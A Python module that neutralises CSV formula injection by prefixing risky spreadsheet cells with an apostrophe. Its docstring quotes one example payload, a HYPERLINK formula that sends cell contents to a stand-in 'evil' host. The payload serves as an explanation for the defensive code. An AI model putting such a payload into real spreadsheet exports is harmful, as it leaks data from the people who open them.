"""CSV cells that a spreadsheet will not run (CSV / formula injection).

A cell starting with ``=``, ``+``, ``-``, ``@`` (or a tab / carriage return, which some spreadsheets
strip first) is read by Excel and LibreOffice as a formula: a tenant's name such as
``=HYPERLINK("http://evil/?"&A1)`` in a municipality export would run on the clerk's machine.
Such cells get a leading apostrophe, which the spreadsheet shows as text. Plain numbers (``-12,50``)
stay numbers: they cannot hold a formula. See OWASP "CSV Injection".
"""

from __future__ import annotations

import re
from collections.abc import Iterable, Mapping
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?\d+(?:[.,]\d+)?")


def safe_cell(value: Any) -> Any:
    if not isinstance(value, str) or not value.startswith(FORMULA_START):
        return value
    if _NUMBER.fullmatch(value):
        return value
    return "'" + value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in values]


def safe_dict(row: Mapping[str, Any]) -> dict[str, Any]:
    return {k: safe_cell(v) for k, v in row.items()}


class SafeWriter:
    """Wraps a ``csv.writer`` so every row written goes through ``safe_row``."""

    def __init__(self, writer: Any) -> None:
        self.writer = writer

    def writerow(self, row: Iterable[Any]) -> Any:
        return self.writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)
